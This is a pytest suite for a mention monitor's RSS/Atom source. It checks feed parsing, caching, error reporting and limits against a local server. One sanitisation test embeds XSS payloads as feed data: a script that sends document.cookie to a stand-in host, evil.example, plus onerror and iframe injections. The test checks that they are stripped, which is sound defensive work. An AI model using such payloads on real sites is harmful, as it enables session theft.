"""The rss source against a real local web server: feeds in, mentions out, failures explained."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler

import feedparser
import pytest

from monitor.errors import SourceError
from monitor.fetch import Fetcher
from monitor.mention import Cursor, Mention, Poll
from monitor.source import Source, SourceContext, source_kinds
from sources.rss import RssSource
from tests.servers import Handler, HttpServer, Reply

RSS_TYPE = "application/rss+xml; charset=utf-8"

NEWS_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>Acme watch</title>
    <link>https://news.example/</link>
    <description>Stories that name Acme</description>
    <language>en-gb</language>
    <item>
      <guid isPermaLink="false">news-1001</guid>
      <link>https://news.example/acme-outage</link>
      <title>Acme Cloud down for &lt;b&gt;three&lt;/b&gt; hours</title>
      <description><![CDATA[<p>Customers of <a href="https://acme.example">Acme</a> could not
log in.</p><p>Support &amp; engineering were &ldquo;on it&rdquo;.</p>]]></description>
      <dc:creator>Jo Reporter</dc:creator>
      <pubDate>Tue, 03 Jun 2025 09:39:21 +0200</pubDate>
    </item>
    <item>
      <guid>https://news.example/acme-praise</guid>
      <title>Why we love Acme</title>
      <description>Plain text: five stars for Acme.</description>
      <dc:creator>Sam Editor</dc:creator>
      <pubDate>Mon, 02 Jun 2025 23:00:00 GMT</pubDate>
    </item>
  </channel>
</rss>
"""

FORUM_ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title>Forum Acme</title>
  <id>urn:uuid:3f1e0c1a-forum-acme</id>
  <updated>2025-06-03T10:00:00Z</updated>
  <entry>
    <id>tag:forum.example,2025:post-7</id>
    <title type="html">Acme &amp;amp; moi</title>
    <link rel="alternate" type="text/html" href="https://forum.example/t/7"/>
    <author><name>Camille</name></author>
    <published>2025-06-02T22:15:00-05:00</published>
    <updated>2025-06-03T08:00:00+02:00</updated>
    <content type="html">&lt;p&gt;Le support d'Acme est &lt;em&gt;lent&lt;/em&gt;.&lt;/p&gt;</content>
  </entry>
  <entry xml:lang="de">
    <id>tag:forum.example,2025:post-8</id>
    <title>Acme ist super</title>
    <updated>2025-06-03T09:30:00Z</updated>
    <summary>Kurz und gut.</summary>
  </entry>
</feed>
"""

BLOG_RDF = """<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://blog.example/">
    <title>Acme blog</title>
    <link>https://blog.example/</link>
    <description>Reviews</description>
    <dc:language>ja</dc:language>
    <items><rdf:Seq><rdf:li rdf:resource="https://blog.example/acme-review"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://blog.example/acme-review">
    <title>Acmeのレビュー</title>
    <link>https://blog.example/acme-review</link>
    <description>とても良い。</description>
    <dc:creator>Hana</dc:creator>
    <dc:date>2025-06-03T10:00:00+09:00</dc:date>
  </item>
</rdf:RDF>
""".encode()


def story(number: int, *, guid: bool = True) -> str:
    """One RSS item about Acme; without ``guid`` it has neither a guid nor a link."""
    ident = f"<guid isPermaLink='false'>urn:acme:story:{number}</guid>" if guid else ""
    return f"<item>{ident}<title>Acme story {number}</title><description>Story {number} names Acme.</description></item>"


def rss(*items: str) -> bytes:
    """A minimal RSS 2.0 document holding ``items``."""
    return (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Acme stories</title>'
        f"<link>https://stories.example/</link><description>d</description>{''.join(items)}"
        "</channel></rss>"
    ).encode()


def rss_source(url: str, fetcher: Fetcher, **settings: object) -> Source:
    """The rss source as the daemon builds it: found by its kind, settings validated."""
    kind = source_kinds()["rss"]
    return kind(
        "acme_news",
        kind.Settings.model_validate({"type": "rss", "url": url, **settings}),
        SourceContext(fetcher),
    )


def poll(source: Source, cursor: Cursor | None = None) -> Poll:
    return source.poll({} if cursor is None else cursor)


def request_headers(server: HttpServer) -> dict[str, str]:
    """The headers of the last request the server saw, with lower-case names."""
    return {name.lower(): value for name, value in server.requests[-1][1].items()}


def forbid_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    """From now on, parsing a feed fails the test: a 304 must cost no parsing."""

    def parse(*args: object, **kwargs: object) -> object:
        raise AssertionError("a 304 Not Modified response was parsed")

    monkeypatch.setattr(feedparser, "parse", parse)


def test_rss_items_become_mentions(http_server: HttpServer, fetcher: Fetcher) -> None:
    http_server.routes["/news.rss"] = Reply(NEWS_RSS, headers={"Content-Type": RSS_TYPE})

    result = poll(rss_source(http_server.url("/news.rss"), fetcher))

    assert result.mentions == (
        Mention(
            source="acme_news",
            id="news-1001",
            title="Acme Cloud down for three hours",
            text="Customers of Acme could not log in.\n\nSupport & engineering were “on it”.",
            url="https://news.example/acme-outage",
            author="Jo Reporter",
            published=datetime(2025, 6, 3, 7, 39, 21, tzinfo=UTC),
            lang="en-gb",
        ),
        Mention(
            source="acme_news",
            id="https://news.example/acme-praise",
            title="Why we love Acme",
            text="Plain text: five stars for Acme.",
            url="https://news.example/acme-praise",  # a permalink guid is the item's address
            author="Sam Editor",
            published=datetime(2025, 6, 2, 23, 0, tzinfo=UTC),
            lang="en-gb",
        ),
    )
    assert result.fetched == 2


def test_atom_entries_become_mentions_with_their_own_language(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/forum.atom"] = Reply(
        FORUM_ATOM, headers={"Content-Type": "application/atom+xml"}
    )

    first, second = poll(rss_source(http_server.url("/forum.atom"), fetcher)).mentions

    assert first == Mention(
        source="acme_news",
        id="tag:forum.example,2025:post-7",
        title="Acme & moi",
        text="Le support d'Acme est lent.",
        url="https://forum.example/t/7",
        author="Camille",
        published=datetime(2025, 6, 3, 3, 15, tzinfo=UTC),  # published wins over updated
        lang="fr",
    )
    assert second.id == "tag:forum.example,2025:post-8"
    assert second.url == ""  # a "tag:" id is no web address
    assert second.published == datetime(2025, 6, 3, 9, 30, tzinfo=UTC)
    assert second.lang == "de"


def test_rdf_items_become_mentions(http_server: HttpServer, fetcher: Fetcher) -> None:
    http_server.routes["/blog.rdf"] = Reply(
        BLOG_RDF, headers={"Content-Type": "application/rdf+xml"}
    )

    (mention,) = poll(rss_source(http_server.url("/blog.rdf"), fetcher)).mentions

    assert mention == Mention(
        source="acme_news",
        id="https://blog.example/acme-review",
        title="Acmeのレビュー",
        text="とても良い。",
        url="https://blog.example/acme-review",
        author="Hana",
        published=datetime(2025, 6, 3, 1, 0, tzinfo=UTC),
        lang="ja",
    )
    assert mention.published is not None
    assert mention.published.utcoffset() == timedelta(0)


def test_items_already_seen_are_not_returned_again(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/news.rss"] = Reply(NEWS_RSS, headers={"Content-Type": RSS_TYPE})
    source = rss_source(http_server.url("/news.rss"), fetcher)

    first = poll(source)
    second = poll(source, first.cursor)

    assert len(first.mentions) == 2
    assert second.mentions == ()
    assert second.fetched == 2  # the items were read, just not new


def test_only_new_items_are_returned_on_a_later_poll(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/stories.rss"] = Reply(rss(story(2), story(1)))
    source = rss_source(http_server.url("/stories.rss"), fetcher)
    first = poll(source)

    http_server.routes["/stories.rss"] = Reply(rss(story(4), story(3), story(2), story(1)))
    later = poll(source, first.cursor)

    assert [m.id for m in first.mentions] == ["urn:acme:story:2", "urn:acme:story:1"]
    assert [m.id for m in later.mentions] == ["urn:acme:story:4", "urn:acme:story:3"]
    assert poll(source, later.cursor).mentions == ()


def test_etag_makes_an_unchanged_feed_cost_nothing(
    http_server: HttpServer, fetcher: Fetcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    http_server.routes["/news.rss"] = Reply(
        NEWS_RSS, headers={"Content-Type": RSS_TYPE, "ETag": '"v1"'}
    )
    source = rss_source(http_server.url("/news.rss"), fetcher)
    first = poll(source)
    forbid_parsing(monkeypatch)

    second = poll(source, first.cursor)

    assert request_headers(http_server)["if-none-match"] == '"v1"'
    assert second.mentions == ()
    assert second.cursor == first.cursor
    assert second.fetched == 0


def not_modified_since(body: bytes, stamp: str) -> Handler:
    """A route that answers 304 when the client already has the version from ``stamp``."""

    def reply(request: BaseHTTPRequestHandler) -> Reply:
        if request.headers.get("If-Modified-Since") == stamp:
            return Reply(status=304)
        return Reply(body, headers={"Content-Type": RSS_TYPE, "Last-Modified": stamp})

    return reply


def test_last_modified_makes_an_unchanged_feed_cost_nothing(
    http_server: HttpServer, fetcher: Fetcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    stamp = "Tue, 03 Jun 2025 09:00:00 GMT"
    http_server.routes["/news.rss"] = not_modified_since(NEWS_RSS, stamp)
    source = rss_source(http_server.url("/news.rss"), fetcher)
    first = poll(source)
    forbid_parsing(monkeypatch)

    second = poll(source, first.cursor)

    assert len(first.mentions) == 2
    assert request_headers(http_server)["if-modified-since"] == stamp
    assert second.mentions == ()
    assert second.cursor == first.cursor


def test_a_changed_feed_with_a_new_etag_is_read_again(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/stories.rss"] = Reply(rss(story(1)), headers={"ETag": '"v1"'})
    source = rss_source(http_server.url("/stories.rss"), fetcher)
    first = poll(source)
    http_server.routes["/stories.rss"] = Reply(rss(story(2), story(1)), headers={"ETag": '"v2"'})

    second = poll(source, first.cursor)

    assert [m.id for m in second.mentions] == ["urn:acme:story:2"]
    assert second.cursor["etag"] == '"v2"'


FAILURES = {
    "server error": (Reply(b"oops", status=500), "HTTP 500 Internal Server Error"),
    "html page": (
        Reply(
            b"<!DOCTYPE html><html><head><title>Sign in</title></head><body><p>Please sign in</p></body></html>",
            headers={"Content-Type": "text/html; charset=utf-8"},
        ),
        "got an HTML page (text/html; charset=utf-8), not a feed; check the URL",
    ),
    "html page labelled as xml": (
        Reply(
            b"\n<html><body><p>We moved! Our new site is elsewhere.</p></body></html>",
            headers={"Content-Type": "application/xml"},
        ),
        "got an HTML page (application/xml), not a feed",
    ),
    "malformed xml": (
        Reply(
            b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Acme</title></chanel></rss>',
            headers={"Content-Type": RSS_TYPE},
        ),
        "not a readable RSS/Atom feed: XML error at line 2",
    ),
    "json": (
        Reply(b'{"items": []}', headers={"Content-Type": "application/json"}),
        "not a readable RSS/Atom feed",
    ),
    "empty body": (Reply(b"", headers={"Content-Type": RSS_TYPE}), "the response was empty"),
    "redirect to itself": (
        Reply(status=302, headers={"Location": "/feed"}),
        "too many redirects (more than 5)",
    ),
}


@pytest.mark.parametrize("case", list(FAILURES))
def test_a_failing_feed_raises_a_source_error_naming_the_url(
    http_server: HttpServer, fetcher: Fetcher, case: str
) -> None:
    reply, expected = FAILURES[case]
    http_server.routes["/feed"] = reply
    url = http_server.url("/feed")

    with pytest.raises(SourceError) as caught:
        poll(rss_source(url, fetcher))

    assert str(caught.value).startswith(f"{url}: ")
    assert expected in str(caught.value)


def test_a_missing_feed_says_404(http_server: HttpServer, fetcher: Fetcher) -> None:
    url = http_server.url("/gone.rss")

    with pytest.raises(SourceError, match="HTTP 404 Not Found") as caught:
        poll(rss_source(url, fetcher))

    assert str(caught.value).startswith(url)


def test_a_slow_server_times_out(http_server: HttpServer, fetcher: Fetcher) -> None:
    http_server.routes["/slow.rss"] = Reply(NEWS_RSS, delay=1.5)
    url = http_server.url("/slow.rss")
    started = time.monotonic()

    with pytest.raises(SourceError) as caught:
        poll(rss_source(url, fetcher))

    assert str(caught.value) == f"{url}: timed out after 0.5s (raise [http] timeout to wait longer)"
    assert time.monotonic() - started < 1.2


def test_a_huge_response_is_cut_off_at_the_size_cap(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    sent: list[int] = []

    def fifty_megabytes() -> Iterator[bytes]:
        for _ in range(800):
            sent.append(1)
            yield b"<!-- padding -->" * 4096  # 64 KiB

    http_server.routes["/huge.rss"] = Reply(
        headers={"Content-Type": RSS_TYPE}, chunks=fifty_megabytes()
    )
    url = http_server.url("/huge.rss")
    started = time.monotonic()

    with pytest.raises(SourceError) as caught:
        poll(rss_source(url, fetcher))

    assert str(caught.value) == (
        f"{url}: response larger than 1,000,000 bytes; not read (raise [http] max_bytes to allow it)"
    )
    assert time.monotonic() - started < 2
    assert len(sent) < 400  # the client stopped reading long before the end


def test_a_feed_longer_than_max_items_yields_max_items(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/stories.rss"] = Reply(rss(*(story(n) for n in range(10, 0, -1))))

    result = poll(rss_source(http_server.url("/stories.rss"), fetcher, max_items=3))

    assert [m.title for m in result.mentions] == ["Acme story 10", "Acme story 9", "Acme story 8"]


def test_items_without_guid_or_link_keep_a_stable_id(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/stories.rss"] = Reply(rss(story(2, guid=False), story(1, guid=False)))
    source = rss_source(http_server.url("/stories.rss"), fetcher)

    first = poll(source)
    again = poll(source)  # a fresh start, e.g. after the database was reset
    after = poll(source, first.cursor)

    assert [m.id for m in first.mentions] == [m.id for m in again.mentions]
    assert len({m.id for m in first.mentions}) == 2
    assert all(m.url == "" for m in first.mentions)
    assert after.mentions == ()


def test_an_item_listed_twice_is_one_mention(http_server: HttpServer, fetcher: Fetcher) -> None:
    http_server.routes["/stories.rss"] = Reply(rss(story(2), story(1), story(2)))

    result = poll(rss_source(http_server.url("/stories.rss"), fetcher))

    assert [m.id for m in result.mentions] == ["urn:acme:story:2", "urn:acme:story:1"]


def test_hostile_markup_comes_out_as_harmless_text(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    hostile = rss(
        "<item><guid>urn:evil:1</guid>"
        "<title>&lt;script&gt;alert('pwned')&lt;/script&gt;Acme is great</title>"
        "<description><![CDATA[<p>Hi</p><script>document.location='https://evil.example/?'"
        "+document.cookie</script><img src=x onerror=alert(1)><style>body{display:none}</style>"
        "<iframe src='https://evil.example'>frame</iframe>]]></description></item>"
    )
    http_server.routes["/evil.rss"] = Reply(hostile, headers={"Content-Type": RSS_TYPE})

    (mention,) = poll(rss_source(http_server.url("/evil.rss"), fetcher)).mentions

    assert mention.title == "Acme is great"
    assert mention.text == "Hi"


def test_an_item_without_a_date_has_no_published_time(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/stories.rss"] = Reply(rss(story(1)))

    (mention,) = poll(rss_source(http_server.url("/stories.rss"), fetcher)).mentions

    assert mention.published is None
    assert mention.lang == ""


def test_a_feed_with_no_items_yet_is_not_an_error(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/empty.rss"] = Reply(rss(), headers={"Content-Type": RSS_TYPE})

    result = poll(rss_source(http_server.url("/empty.rss"), fetcher))

    assert result.mentions == ()
    assert result.fetched == 0


def test_a_preset_builds_the_feed_address_from_the_brand_terms(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    kind = source_kinds()["rss"]
    settings = kind.Settings.model_validate(
        {"type": "rss", "preset": "google_news", "language": "en-GB", "country": "GB"}
    )
    source = kind(
        "news", settings, SourceContext(fetcher, terms=("Acme", "@acme", "#ACME", "Acme Cloud"))
    )
    assert isinstance(source, RssSource)
    assert source.url == (
        "https://news.google.com/rss/search?q=Acme+OR+%22Acme+Cloud%22&hl=en-GB&gl=GB&ceid=GB:en"
    )


def test_url_and_preset_are_one_or_the_other() -> None:
    kind = source_kinds()["rss"]
    with pytest.raises(ValueError, match="either url"):
        kind.Settings.model_validate({"type": "rss"})
    with pytest.raises(ValueError, match="either url"):
        kind.Settings.model_validate(
            {"type": "rss", "url": "https://a.example/", "preset": "hackernews"}
        )


def test_a_permanently_moved_feed_is_followed_from_then_on(
    http_server: HttpServer, fetcher: Fetcher
) -> None:
    http_server.routes["/old.xml"] = Reply(
        status=301, headers={"Location": http_server.url("/new.xml")}
    )
    http_server.routes["/new.xml"] = Reply(rss(story(1)), headers={"ETag": '"n1"'})
    source = rss_source(http_server.url("/old.xml"), fetcher)
    first = poll(source)
    assert first.cursor["moved_to"] == http_server.url("/new.xml")
    http_server.requests.clear()
    poll(source, first.cursor)
    assert [path for path, _ in http_server.requests] == ["/new.xml"]
